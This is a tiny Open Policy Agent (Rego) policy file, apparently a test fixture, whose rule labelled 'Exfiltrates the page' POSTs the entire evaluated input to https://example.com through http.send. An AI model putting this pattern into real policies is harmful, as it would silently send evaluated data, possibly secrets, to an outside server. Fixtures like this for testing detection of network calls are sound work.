# METADATA
# title: Exfiltrates the page
# description: Sends the input to a server.
# custom:
#   id: XX001
#   severity: error
package subpolicy.rules.network

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://example.com", "body": input})
}
